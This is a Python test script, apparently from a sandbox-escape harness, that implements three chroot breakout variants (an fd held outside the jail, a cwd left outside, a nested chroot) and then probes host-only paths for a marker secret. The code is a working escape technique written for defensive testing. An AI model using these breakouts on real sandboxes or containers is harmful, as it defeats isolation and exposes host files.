"""Classic chroot breakout: chroot into a subdirectory while holding a directory fd (or the cwd) outside it, fchdir back, climb '..' and chroot('.')."""
import os
import sys

from _attack import ESCAPES, NOTES, en, finish, host_only_paths, in_child, libc, sysc  # noqa: F401


def look(paths, how):
    secret = os.environ.get("FB_HOST_SECRET", "").encode()
    out = []
    for p in paths:
        try:
            with open(p, "rb") as f:
                data = f.read(4096)
            out.append("ESC %s: %s" % (how, "read the host marker secret" if secret and secret in data else "opened host path " + p))
        except IsADirectoryError:
            out.append("ESC %s: host directory %s visible" % (how, p))
        except OSError:
            pass
    st_root = os.stat("/")
    out.append("NOTE %s: '/' is now inode %d, no host path visible" % (how, st_root.st_ino))
    return "\n".join(out)


def variant_fd(paths):
    os.makedirs("/tmp/fbx-jail1/x", exist_ok=True)
    outside = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    os.chroot("/tmp/fbx-jail1")
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return look(paths, "fd held outside the chroot")


def variant_cwd(paths):
    os.makedirs("/tmp/fbx-jail2/a/b", exist_ok=True)
    os.chdir("/tmp/fbx-jail2")
    os.chroot("/tmp/fbx-jail2/a/b")  # cwd is now outside the root
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return look(paths, "cwd left outside the chroot")


def variant_nested(paths):
    os.makedirs("/tmp/fbx-jail3/inner/deeper", exist_ok=True)
    os.chroot("/tmp/fbx-jail3")
    os.chdir("/")
    os.chroot("/inner/deeper")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return look(paths, "nested chroot")


def main():
    paths = host_only_paths()
    if not paths:
        print("ERROR: no host-only paths known")
        sys.exit(2)
    for v in (variant_fd, variant_cwd, variant_nested):
        for line in in_child(lambda v=v: v(paths)).splitlines():
            if line.startswith("ESC "):
                ESCAPES.append(line[4:])
            elif line.startswith("NOTE "):
                NOTES.append(line[5:])
    NOTES.append("sandbox root is inode %d: every breakout ends at the sandbox's own root" % os.stat("/").st_ino)


if __name__ == "__main__":
    finish(main)
